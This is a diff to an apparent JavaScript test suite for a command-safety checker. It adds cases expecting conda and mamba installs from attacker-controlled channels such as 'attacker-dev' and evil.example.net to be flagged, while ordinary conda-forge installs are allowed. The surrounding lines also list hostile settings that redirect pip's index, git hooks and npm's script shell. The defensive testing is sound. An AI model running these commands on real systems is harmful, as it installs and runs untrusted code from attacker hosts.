@@ -320,6 +320,13 @@ describe("home-side persistence: tools' start-up files and programs that write t
     ["npm config set script-shell /tmp/sh", null],
     ["git config --global core.hooksPath /tmp/h", null],
     ["pip config set global.index-url https://evil.example.net/simple", null],
+    // conda channels: anyone's anaconda.org account or a URL; post-link scripts run on install
+    ["conda install -y -c attacker-dev helper", null],
+    ["conda create -n x -c attacker python", null],
+    ["conda install --channel=attacker x", null],
+    ["conda install -cattacker x", null],
+    ["mamba install -c https://evil.example.net/ch x", null],
+    ["conda config --add channels attacker", null],
   ];
   for (const [line, rule] of programs)
     it(line, () => {
@@ -337,6 +344,9 @@ describe("home-side persistence: tools' start-up files and programs that write t
     "gem install -n bin rake",
     "gem build helpers.gemspec",
     "bundle install",
+    "conda install -c conda-forge numpy",
+    "conda install numpy",
+    "conda create -n x python=3.12",
   ];
   for (const line of everyday) it(line, () => expect(steps(line).evaluation).toBe("ALLOW"));
 });
